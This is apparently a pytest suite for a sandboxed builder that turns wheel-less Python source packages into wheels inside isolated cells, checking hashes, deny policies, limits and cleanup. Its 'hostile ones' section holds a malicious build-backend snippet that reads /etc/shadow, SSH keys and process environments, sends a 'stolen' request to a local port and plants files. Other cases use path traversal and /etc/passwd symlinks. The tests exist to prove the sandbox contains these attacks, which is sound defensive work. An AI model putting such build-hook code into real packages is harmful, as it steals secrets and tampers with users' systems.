"""Packages without a wheel: built in a cell, once and by hash; what builds them reaches nothing."""

import asyncio
import os
import textwrap
import time
from collections.abc import AsyncIterator, Callable, Iterator
from contextlib import asynccontextmanager, suppress
from dataclasses import replace
from pathlib import Path

import pytest

from petri.engine import Engine
from petri.engine.bubblewrap import BubblewrapEngine, Setup
from petri.environment import Lock, Pin, Policy
from petri.environment.building import (
    Environment,
    Environments,
    Fetching,
    NotInstalled,
    Progress,
    PythonPackages,
    Rules,
    Shelf,
    SourcePackages,
    Uv,
    Yard,
)
from petri.environment.building.source_packages import MOST_LOOKED_AT
from petri.environment.building.yard import LIMITS
from petri.model import Limits
from petri.settings import for_installers
from petri.workspace import raze
from tests.environments import PYTHON, UV, YESTERDAY, asking, imported, silent, want
from tests.package_index import PackageIndex, sdist, wheel
from tests.programs import put_programs

pytestmark = pytest.mark.long
OWNER = 0x7000_0000 if os.geteuid() == 0 else None

PLANTED = Path("/tmp/planted-by-a-build")
SECRET = "openly-said-to-nobody"

BACKEND = """
import base64, hashlib, zipfile

NAME, VERSION, REQUIRES = {name!r}, {version!r}, {requires!r}
FILES = {{NAME + ".py": "version = %r\\n" % VERSION}}

def make(path, files):
    info = "%s-%s.dist-info/" % (NAME, VERSION)
    metadata = "Metadata-Version: 2.1\\nName: %s\\nVersion: %s\\n" % (NAME, VERSION)
    metadata += "".join("Requires-Dist: %s\\n" % each for each in REQUIRES)
    files = dict(files)
    files[info + "METADATA"] = metadata
    files[info + "WHEEL"] = "Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n"
    rows = []
    with zipfile.ZipFile(path, "w") as archive:
        for name, text in files.items():
            digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).decode().rstrip("=")
            rows.append("%s,sha256=%s,%d" % (name, digest, len(text)))
            archive.writestr(zipfile.ZipInfo(name), text)
        archive.writestr(zipfile.ZipInfo(info + "RECORD"), "\\n".join([*rows, info + "RECORD,,"]))

def get_requires_for_build_wheel(settings=None):
    return {asks!r}

def build_wheel(folder, settings=None, metadata=None):
    name = "%s-%s-py3-none-any.whl" % (NAME, VERSION)
    path = "%s/%s" % (folder, name)
{before}
    make(path, FILES)
{after}
    return name
"""
BACKEND_OF_HOMEMADE = BACKEND.format(
    name="homemade", version="1.0", requires=(), asks=(), before="", after=""
)
PYPROJECT = '[build-system]\nrequires = {requires}\nbuild-backend = "backend"\nbackend-path = ["."]\n'


def source(  # noqa: PLR0913 - each is one way to be odd
    name: str,
    *,
    needs: tuple[str, ...] = (),
    before: str = "",
    after: str = "",
    requires: tuple[str, ...] = (),
    asks: tuple[str, ...] = (),
    says: str | None = None,
) -> bytes:
    """Return a source distribution that builds itself, with whatever it does `before` and `after` that."""
    says = says if says is not None else f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n"
    indented = {"before": textwrap.indent(before, "    "), "after": textwrap.indent(after, "    ")}
    files = {
        "backend.py": BACKEND.format(name=name, version="1.0", requires=needs, asks=asks, **indented),
        "pyproject.toml": PYPROJECT.format(requires=list(requires)),
        "PKG-INFO": says,
    }
    return sdist(name, "1.0", files)


def final(name: str, *needs: str, version: str = "1.0") -> str:
    """Return metadata that is said not to change by building."""
    lines = [f"Requires-Dist: {each}\n" for each in needs]
    return f"Metadata-Version: 2.2\nName: {name}\nVersion: {version}\n{''.join(lines)}"


@pytest.fixture
def index() -> Iterator[PackageIndex]:
    """An index of our own: `alpha` needs `homemade`, of which there is no wheel."""
    index = PackageIndex()
    index.add("alpha", "1.0", "homemade")
    index.add("beta", "1.0")
    index.put_sdist("homemade", "1.0", source("homemade"))
    yield index
    index.stop()


@asynccontextmanager
async def opened(
    root: Path,
    index: PackageIndex | None,
    rules: Rules | None = None,
    *,
    limits: Limits = LIMITS,
    room: Callable[[], bool] = lambda: True,
    policy: Policy | None = None,
) -> AsyncIterator[Environments]:
    """Hold open everything it takes to install and to build."""
    for name in ("engine", "work", "trees"):
        (root / name).mkdir(parents=True, exist_ok=True)
    put_programs(root / "engine")
    shelf = Shelf(root / "environments")
    setup = Setup(
        root / "engine", root / "work", root / "trees", shelf.folder, require_cgroups=os.geteuid() == 0
    )
    engine: Engine = BubblewrapEngine(setup)
    url = index.url if index else None
    env = {**for_installers(), "UV_HTTP_RETRIES": "0"}
    python = PythonPackages(Uv(UV, PYTHON, shelf.cache, url), env, room)
    yard = Yard(engine, shelf.folder, OWNER, raze, room, limits)

    async def complete(_: Environment) -> None:
        pass

    await engine.start()
    try:
        async with asyncio.TaskGroup() as tasks:
            fetching = Fetching(env, url, room, policy or Policy())
            packages = SourcePackages(python, yard, shelf, fetching, tasks)
            environments = Environments(shelf, {"python": packages}, rules or Rules(), tasks, complete)
            yield environments
            environments.stop()
    finally:
        await engine.stop()


def leftovers(root: Path) -> list[Path]:
    """Return what building left beside environments and wheels."""
    places = ("shelf/.building", "staging", "trash")
    return [each for place in places for each in listed(root / "environments" / place)]


def listed(folder: Path) -> list[Path]:
    """Return what is in a folder that may be made not to be listed, not even by us."""
    mode = folder.stat().st_mode
    folder.chmod(0o711)
    try:
        return list(folder.iterdir())
    finally:
        folder.chmod(mode)


def is_building(environments: Path) -> bool:
    """Say whether a package that says so has begun to be built."""
    plots = listed(environments / "shelf/.building")
    return any(found for plot in plots for found in plot.glob("source/*/begun"))


def named(folder: Path, name: str) -> list[Path]:
    return list(folder.rglob(name)) if folder != PLANTED.parent else list(folder.glob(name))


def wheels(root: Path) -> list[Path]:
    return list((root / "environments/built").glob("*/*.whl"))


async def test_what_has_no_wheel_is_built_and_as_good_as_any_other(
    tmp_path: Path, index: PackageIndex
) -> None:
    heard: list[Progress] = []
    async with opened(tmp_path, index) as environments:
        outfit = await environments.prepare(want("homemade"), heard.append)
        again = environments.at_hand(want("homemade"))

    assert outfit.refused == ()
    assert outfit.installed == ["homemade==1.0"]
    assert imported(outfit, "homemade") == "1.0"
    assert again is not None
    assert again.address == outfit.address
    assert ("building", ("homemade==1.0",)) in [(each.phase, each.packages) for each in heard]
    assert len(wheels(tmp_path)) == 1
    assert leftovers(tmp_path) == []


async def test_its_lock_says_what_it_was_built_from(tmp_path: Path, index: PackageIndex) -> None:
    digest = index.put_sdist("homemade", "1.0", source("homemade"))
    async with opened(tmp_path, index) as environments:
        outfit = await environments.prepare(want("alpha"), silent)

    lock = outfit.environments[0].record.portable_lock
    (built,) = (each for each in outfit.environments[0].record.lock.packages if each.name == "homemade")
    assert f"homemade==1.0 \\\n    --hash={digest}\n" in lock
    assert built.hashes[0] in lock  # as a remark: nobody else has that wheel
    assert built.hashes[0] != digest


async def test_a_wheel_is_always_preferred(tmp_path: Path, index: PackageIndex) -> None:
    index.add("homemade", "0.9")
    async with opened(tmp_path, index) as environments:
        outfit = await environments.prepare(want("alpha"), silent)

    assert outfit.installed == ["alpha==1.0", "homemade==0.9"]
    assert not any(path.endswith(".tar.gz") for path in index.fetched)


@pytest.mark.parametrize(
    "says", [None, final("homemade", "beta<2", "second")], ids=["by building", "by its word"]
)
async def test_what_it_needs_is_found_out_and_installed(
    tmp_path: Path, index: PackageIndex, says: str | None
) -> None:
    index.put_sdist("homemade", "1.0", source("homemade", needs=("beta<2", "second"), says=says))
    index.put_sdist("second", "1.0", source("second"))
    async with opened(tmp_path, index) as environments:
        outfit = await environments.prepare(want("alpha"), silent)

    assert outfit.refused == ()
    assert outfit.installed == ["alpha==1.0", "beta==1.0", "homemade==1.0", "second==1.0"]


async def test_what_cannot_be_had_anyhow_is_not_built_to_find_that_out(
    tmp_path: Path, index: PackageIndex
) -> None:
    needs = ("beta>7",)
    index.put_sdist("homemade", "1.0", source("homemade", needs=needs, says=final("homemade", *needs)))
    heard: list[Progress] = []
    async with opened(tmp_path, index) as environments:
        outfit = await environments.prepare(want("homemade"), heard.append)

    assert "beta>7" in outfit.refused[0].sentence
    assert "building" not in [each.phase for each in heard]


async def test_not_every_version_there_ever_was_is_looked_at(tmp_path: Path, index: PackageIndex) -> None:
    for number in range(1, 31):
        says = final("homemade", "beta>7", version=f"1.{number}")
        index.put_sdist("homemade", f"1.{number}", sdist("homemade", f"1.{number}", {"PKG-INFO": says}))
    async with opened(tmp_path, index) as environments:
        outfit = await environments.prepare(want("homemade>1"), silent)

    assert [each.name for each in outfit.refused] == ["homemade"]
    assert len([path for path in index.fetched if path.endswith(".tar.gz")]) == MOST_LOOKED_AT


async def test_it_is_built_once_however_many_ask(tmp_path: Path, index: PackageIndex) -> None:
    heard: list[Progress] = []
    async with opened(tmp_path, index) as environments:
        wishes = [want("homemade"), want("alpha"), want("homemade", "beta"), want("homemade>=1")]
        outfits = await asyncio.gather(*(environments.prepare(wish, heard.append) for wish in wishes * 5))
        assert len({outfit.address for outfit in outfits}) == 3
    async with opened(tmp_path, index) as environments:
        later: list[Progress] = []
        await environments.prepare(want("alpha", "beta"), later.append)

    assert len(wheels(tmp_path)) == 1
    assert len([path for path in index.fetched if path.endswith("homemade-1.0.tar.gz")]) <= 4
    assert "building" not in [each.phase for each in later]


async def test_what_building_takes_is_an_environment_like_any_other(
    tmp_path: Path, index: PackageIndex
) -> None:
    index.put("tools", "1.0", wheel("tools", "1.0", files={"tools.py": "", "more.py": ""}))
    index.put("later-tools", "1.0", wheel("later_tools", "1.0"))
    packed = source(
        "homemade", requires=("tools",), asks=("later-tools",), before="import tools, later_tools"
    )
    index.put_sdist("homemade", "1.0", packed)
    async with opened(tmp_path, index) as environments:
        outfit = await environments.prepare(want("homemade"), silent)
        shelved = {pinned for each in environments.shelf.all() for pinned in each.record.lock.pinned}

    assert outfit.installed == ["homemade==1.0"], outfit.refused
    assert shelved == {"homemade==1.0", "tools==1.0", "later-tools==1.0"}


@pytest.mark.parametrize(
    ("requires", "says"),
    [
        (("setuptols",), "misspelling"),
        (("young",), "what that takes cannot be had"),
        (("nosuch-tool",), "what that takes cannot be had"),
        (("tools @ file:///etc/passwd",), "not from the package index"),
        (("second",), "what that takes cannot be had"),
        (("denied",), "not to install here"),
    ],
)
async def test_what_building_takes_is_held_to_the_same_rules(
    tmp_path: Path, index: PackageIndex, requires: tuple[str, ...], says: str
) -> None:
    index.put("young", "1.0", wheel("young", "1.0"), at=YESTERDAY)
    index.add("denied", "1.0")
    index.put_sdist("second", "1.0", source("second"))
    index.put_sdist("homemade", "1.0", source("homemade", requires=requires))
    async with opened(tmp_path, index, policy=Policy(deny=frozenset({"denied"}))) as environments:
        outfit = await environments.prepare(want("beta", "homemade"), silent)

    assert outfit.installed == ["beta==1.0"]
    assert [each.name for each in outfit.refused] == ["homemade"]
    assert says in outfit.refused[0].sentence


async def test_what_is_denied_is_neither_fetched_nor_built(tmp_path: Path, index: PackageIndex) -> None:
    deny = frozenset({"homemade"})
    async with opened(tmp_path, index, Rules(deny=deny), policy=Policy(deny=deny)) as environments:
        outfit = await environments.prepare(want("alpha"), silent)

    assert "PETRI_DENY_PACKAGES" in outfit.refused[0].sentence
    assert not any(path.endswith(".tar.gz") for path in index.fetched)


# ------------------------------------------------------------------------------------------- hostile ones

EVIL = """
import os, socket
found = []
for bait in {baits!r}:
    try:
        found.append(open(bait).read())
    except OSError:
        pass
found.append(str(dict(os.environ)))
for number in os.listdir("/proc"):
    try:
        found.append(open("/proc/%s/environ" % number).read())
    except OSError:
        pass
try:
    socket.create_connection(("127.0.0.1", {port}), 2).sendall(b"GET /stolen HTTP/1.0\\r\\n\\r\\n")
    found.append("network")
except OSError:
    pass
for folder in {folders!r}:
    try:
        open(folder + "/planted", "w").close()
        found.append("wrote " + folder)
    except OSError:
        pass
FILES["homemade.py"] = "found = %r\\nversion = 'built'\\n" % found
"""


async def test_what_builds_it_reaches_nothing_of_this_host(
    tmp_path: Path, index: PackageIndex, monkeypatch: pytest.MonkeyPatch
) -> None:
    bait = tmp_path / "bait"
    bait.write_text("a secret of the server")
    monkeypatch.setenv("PETRI_BAIT", "a secret of the server")
    folders = [str(tmp_path), "/", "/usr", "/environment/python", "/environment/python/bin", "/etc"]
    port = int(index.url.split(":")[2].split("/")[0])
    code = EVIL.format(baits=[str(bait), "/etc/shadow", "/root/.ssh"], port=port, folders=folders)
    index.put_sdist("homemade", "1.0", source("homemade", before=code))
    async with opened(tmp_path / "home", index) as environments:
        outfit = await environments.prepare(want("homemade"), silent)

    assert outfit.refused == ()
    assert imported(outfit, "homemade") == "built"
    (module,) = (outfit.environments[0].folder / "prefix/lib").glob("*/site-packages/homemade.py")
    found = module.read_text()
    assert "a secret" not in found
    assert "root:" not in found
    assert "wrote" not in found
    assert "'network'" not in found
    assert not any("stolen" in path for path in index.fetched)
    assert named(tmp_path, "planted") == []


@pytest.mark.parametrize(
    ("packed", "says"),
    [
        (source("homemade", before="while True: pass"), "longer than 3 s"),
        (source("homemade", before="globals()['NAME'] = 'other'"), "it is of 'other'"),
        (source("homemade", before="globals()['VERSION'] = '9.0'"), "'9.0'"),
        (source("homemade", says="Metadata-Version: 2.1\nName: other\nVersion: 1.0\n"), "is of 'other'"),
        (
            source("homemade", needs=("beta",), says=final("homemade")),
            "it needs other packages than its source distribution says",
        ),
        (source("homemade", needs=("beta @ file:///x",)), "not from the package index"),
        (source("homemade", after="open(path, 'a').write('x' * 100)\n"), "no archive"),
        (source("homemade", after="open(path, 'w').write('PK')\n"), "no archive"),
        (
            source("homemade", after="import os; os.remove(path); os.symlink('/etc/passwd', path)"),
            "left no wheel",
        ),
        (source("homemade", after="import os; os.remove(path); os.mkfifo(path)"), "left no wheel"),
        (source("homemade", after="import os; os.remove(path); os.mkdir(path)"), "left no wheel"),
        (
            source(
                "homemade",
                after="with zipfile.ZipFile(path, 'a') as archive: archive.writestr('extra.py', '')",
            ),
            "RECORD does not list",
        ),
        (
            source("homemade", before="FILES['../../../../out.py'] = ''"),
            "files that are for elsewhere",
        ),
        (source("homemade", before="raise SystemExit('no compiler \\x1b[31mhere')"), "no compiler"),
        (
            source(
                "homemade", before="import time\nwhile True: open(str(time.time_ns()), 'w').write('x' * 4096)"
            ),
            "it wrote more than",
        ),
        (
            source("homemade", before="open('x', 'w').write('x' * (64 << 20)); import time; time.sleep(60)"),
            "",
        ),
        (sdist("homemade", "1.0", {}), ""),
        (b"not even an archive", ""),
        (sdist("homemade", "1.0", {"pyproject.toml": "[[[["}), ""),
        (sdist("homemade", "1.0", {"PKG-INFO": "x" * 100, "../../../planted": "x", str(PLANTED): "x"}), ""),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)
async def test_what_does_not_come_to_a_wheel_is_a_sentence_and_costs_nobody_else(
    tmp_path: Path, index: PackageIndex, packed: bytes, says: str
) -> None:
    index.put_sdist("homemade", "1.0", packed)
    limits = replace(LIMITS, timeout_s=3, disk_bytes=32 << 20, inodes=200)
    async with opened(tmp_path, index, limits=limits) as environments:
        outfit = await environments.prepare(want("beta", "homemade"), silent)

    assert outfit.installed == ["beta==1.0"]
    assert [each.name for each in outfit.refused] == ["homemade"]
    sentence = outfit.refused[0].sentence
    assert "homemade 1.0 has no wheel for this platform, and building it from source failed" in sentence
    assert says in sentence
    assert "\x1b" not in sentence
    assert wheels(tmp_path) == []
    assert leftovers(tmp_path) == []
    assert named(PLANTED.parent, PLANTED.name) == []


def planting() -> bytes:
    """Return a source distribution whose backend leaves a file, wherever it is so much as imported."""
    files = {
        "backend.py": f"open({str(PLANTED)!r}, 'w')\n" + BACKEND_OF_HOMEMADE,
        "pyproject.toml": PYPROJECT.format(requires=[]),
        "PKG-INFO": "Metadata-Version: 2.1\nName: homemade\nVersion: 1.0\n",
    }
    return sdist("homemade", "1.0", files)


async def test_uv_builds_nothing_below_a_project_of_its_operators(
    tmp_path: Path, index: PackageIndex
) -> None:
    (tmp_path / "pyproject.toml").write_text('[project]\nname = "theirs"\nversion = "1"\n')
    index.put_sdist("homemade", "1.0", planting())
    async with opened(tmp_path / "home", index) as environments:
        outfit = await environments.prepare(want("homemade"), silent)

    assert outfit.refused == ()
    assert outfit.installed == ["homemade==1.0"]
    assert named(PLANTED.parent, PLANTED.name) == []


async def test_uv_builds_nothing_even_if_it_would(tmp_path: Path, index: PackageIndex) -> None:
    index.put_sdist("homemade", "1.0", planting())
    python = PythonPackages(Uv(UV, PYTHON, tmp_path / "cache", index.url), for_installers(), lambda: True)

    with pytest.raises(NotInstalled):
        await python.compiled(want("homemade"), asking(tmp_path), {"homemade"}, "# nothing of its needs")

    assert named(PLANTED.parent, PLANTED.name) == []


async def test_a_deep_tree_that_a_build_leaves_is_gone_with_it(tmp_path: Path, index: PackageIndex) -> None:
    dig = "import os\nfor _ in range(3000):\n    os.mkdir('d')\n    os.chmod('d', 0o700)\n    os.chdir('d')\n"
    index.put_sdist("homemade", "1.0", source("homemade", before=f"{dig}os.chmod('.', 0)\nos.chdir('/')"))
    async with opened(tmp_path, index) as environments:
        outfit = await environments.prepare(want("homemade"), silent)

    assert outfit.installed == ["homemade==1.0"]
    assert leftovers(tmp_path) == []


async def test_another_file_than_was_promised_is_not_looked_at(tmp_path: Path, index: PackageIndex) -> None:
    index.lies_about_hashes = True
    async with opened(tmp_path, index) as environments:
        outfit = await environments.prepare(want("homemade"), silent)

    assert "is not the file that was promised" in outfit.refused[0].sentence
    assert list((tmp_path / "environments/cache").glob("petri-sdists/*")) == []


@pytest.mark.parametrize("is_promised", [True, False])
async def test_a_projects_lock_promises_the_source_distribution(
    tmp_path: Path, index: PackageIndex, *, is_promised: bool
) -> None:
    digest = index.put_sdist("homemade", "1.0", source("homemade"))
    lock = Lock(
        "requirements.txt", "", (Pin("homemade", "1.0", (digest if is_promised else "sha256:" + "1" * 64,)),)
    )
    async with opened(tmp_path, index) as environments:
        outfit = await environments.prepare(want("homemade", source="lock", lock=lock), silent)

    assert outfit.installed == (["homemade==1.0"] if is_promised else [])
    assert is_promised or "not what the project's lock promises" in outfit.refused[0].sentence


# ------------------------------------------------------------------------------------------------ bad luck


async def _building(root: Path) -> None:
    """Wait until a cell has begun to build."""
    async with asyncio.timeout(30):
        while not is_building(root / "environments"):  # noqa: ASYNC110 - a cell does
            await asyncio.sleep(0.01)


SLOWLY = "open('begun', 'w').close(); import time; time.sleep({})"


async def test_called_off_half_way_nothing_is_left_and_the_next_one_succeeds(
    tmp_path: Path, index: PackageIndex
) -> None:
    index.put_sdist("homemade", "1.0", source("homemade", before=SLOWLY.format(2)))
    async with opened(tmp_path, index) as environments:
        async with asyncio.TaskGroup() as tasks:
            first = tasks.create_task(environments.prepare(want("homemade"), silent))
            await _building(tmp_path)
            first.cancel()

        assert leftovers(tmp_path) == []
        assert wheels(tmp_path) == []
        outfit = await environments.prepare(want("homemade"), silent)
    assert outfit.installed == ["homemade==1.0"]


async def test_a_run_waits_so_long_for_all_it_wants_and_no_longer(
    tmp_path: Path, index: PackageIndex
) -> None:
    for name in ("homemade", "handmade"):
        index.put_sdist(name, "1.0", source(name, before=SLOWLY.format(5)))
    index.add("two", "1.0", "homemade", "handmade")
    async with opened(tmp_path, index, Rules(patience_s=8)) as environments:
        begun = time.monotonic()
        outfit = await environments.prepare(want("two"), silent)

        assert "not all here after 8 s" in outfit.refused[0].sentence
        assert 8 <= time.monotonic() - begun < 10
        assert leftovers(tmp_path) == []
        built = wheels(tmp_path)
        assert len(built) == 1  # and is kept: the next one begins where this one had to stop
        outfit = await environments.prepare(want("two", "beta"), silent)
    assert "two==1.0" in outfit.installed
    assert built[0] in wheels(tmp_path)


async def test_builds_that_go_on_at_one_time_belong_to_different_owners_and_no_tenant_has_more_than_half(
    tmp_path: Path, index: PackageIndex
) -> None:
    names = ["one", "two", "three", "four"]
    for name in names:
        index.put_sdist(name, "1.0", source(name, before=SLOWLY.format(30)))
    async with opened(tmp_path, index) as environments, asyncio.TaskGroup() as tasks:
        tenants = ["a", "a", "a", "b"]
        wishes = [
            tasks.create_task(environments.prepare(want(name), silent, tenant))
            for name, tenant in zip(names, tenants, strict=True)
        ]
        await _all_building(tmp_path, 3)
        plots = listed(tmp_path / "environments/shelf/.building")
        owners = {plot.stat().st_uid for plot in plots}
        for wish in wishes:
            wish.cancel()

    assert len(plots) == 3
    if OWNER is not None:
        assert len(owners) == 3
        assert min(owners) > OWNER + 2**27


async def _all_building(root: Path, number: int) -> None:
    async with asyncio.timeout(30):
        while _begun(root / "environments") < number:  # noqa: ASYNC110 - cells do
            await asyncio.sleep(0.01)
    await asyncio.sleep(1)  # nobody else begins, either


def _begun(environments: Path) -> int:
    plots = listed(environments / "shelf/.building")
    return sum(any(plot.glob("source/*/begun")) for plot in plots)


async def test_a_disk_that_gets_full_meanwhile_ends_it(tmp_path: Path, index: PackageIndex) -> None:
    index.put_sdist("homemade", "1.0", source("homemade", before=SLOWLY.format(60)))
    room = [True]
    async with opened(tmp_path, index, room=lambda: room[0]) as environments, asyncio.TaskGroup() as tasks:
        preparing = tasks.create_task(environments.prepare(want("homemade"), silent))
        await _building(tmp_path)
        begun = time.monotonic()
        room[0] = False
        outfit = await preparing

    assert "no space is left" in outfit.refused[0].sentence
    assert time.monotonic() - begun < 10
    assert leftovers(tmp_path) == []
    assert wheels(tmp_path) == []


@pytest.mark.parametrize("said_by", ["setting", "UV_DEFAULT_INDEX", "UV_INDEX_URL"])
async def test_the_password_of_an_index_is_seen_by_nobody_and_kept_nowhere(
    tmp_path: Path,
    index: PackageIndex,
    said_by: str,
    monkeypatch: pytest.MonkeyPatch,
    caplog: pytest.LogCaptureFixture,
) -> None:
    look = "import os, sys; print(os.environ, sys.argv); sys.exit('no')"
    index.put_sdist("nosy", "1.0", source("nosy", before=look))
    index.password = SECRET
    words: set[str] = set()
    index.on_asked = lambda: words.update(_all_words())
    if said_by != "setting":
        monkeypatch.setenv(said_by, index.url)
    caplog.set_level("DEBUG")
    async with opened(tmp_path, index if said_by == "setting" else None) as environments:
        outfit = await environments.prepare(want("alpha"), silent)
        failed = await environments.prepare(want("nosy"), silent)
        unknown = await environments.prepare(want("beta", "nosuch"), silent)
        index.password = "another"
        refused = await environments.prepare(want("beta"), silent)

    assert outfit.installed == ["alpha==1.0", "homemade==1.0"]
    assert any("/fetch.py" in each for each in words)  # they were looked at while somebody asked
    said = [failed.refused[0].sentence, unknown.refused[0].sentence, refused.refused[0].sentence]
    assert "building it from source failed" in said[0]
    for text in (*words, *said, str(outfit), caplog.text):
        assert SECRET not in text
    assert _files_with(SECRET, tmp_path) == []
    assert len(_files_with("homemade", tmp_path)) > 3


def _files_with(text: str, root: Path) -> list[Path]:
    kept = [each for each in root.rglob("*") if each.is_file() and not each.is_symlink()]
    return [each for each in kept if text.encode() in each.read_bytes()]


def _all_words() -> Iterator[str]:
    """Return what everybody on this host can read of every process."""
    for each in Path("/proc").glob("[0-9]*/cmdline"):
        with suppress(OSError):
            yield each.read_bytes().replace(b"\0", b" ").decode(errors="replace")


async def test_where_there_are_no_cells_nothing_is_built(
    tmp_path: Path, index: PackageIndex, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PATH", "/nonexistent")
    async with opened(tmp_path, index) as environments:
        outfit = await environments.prepare(want("beta", "homemade"), silent)

    assert "this server has no cell for that" in outfit.refused[0].sentence
    assert wheels(tmp_path) == []


async def test_a_wheel_that_went_for_its_space_is_built_again_to_the_same(
    tmp_path: Path, index: PackageIndex
) -> None:
    async with opened(tmp_path, index, Rules(budget_bytes=1)) as environments:
        first = await environments.prepare(want("homemade"), silent)
        environments.give_back(first)
        async with asyncio.timeout(20):
            while wheels(tmp_path) or environments.shelf.all():
                await environments.sweep()
                await asyncio.sleep(0.05)

        second = await environments.prepare(want("homemade"), silent)

    assert second.address == first.address
    assert second.installed == ["homemade==1.0"]


# ------------------------------------------------------------------------------------------ the real index


async def test_a_real_package_of_which_there_is_only_a_source_distribution(tmp_path: Path) -> None:
    """Fails within seconds, and says so, where no index can be reached."""
    async with asyncio.timeout(120), opened(tmp_path, None) as environments:
        outfit = await environments.prepare(want("docopt"), silent)

    assert outfit.refused == (), "the package index of this host is out of reach"
    assert outfit.installed == ["docopt==0.6.2"]
